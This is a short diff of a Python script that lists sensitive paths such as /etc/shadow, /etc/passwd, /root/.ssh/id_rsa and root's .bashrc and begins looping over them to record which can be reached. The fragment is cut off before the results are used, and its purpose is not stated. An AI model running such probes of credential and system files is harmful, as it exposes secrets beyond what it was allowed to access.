@@ -2,7 +2,7 @@ import os
 import sys
 
 places = ["/root", "/home", "/etc/passwd", "/etc/shadow", "/etc/hostname", "/var/lib", "/run", "/sys"]
-places += ["/root/.ssh/id_rsa", "/work", "/srv", "/mnt", "/opt", os.path.expanduser("~root/.bashrc")]
+places += [os.path.join("/root", ".ssh/id_rsa"), "/srv", "/mnt", "/opt", os.path.expanduser("~root/.bashrc")]
 found = []
 for place in places:
     try:
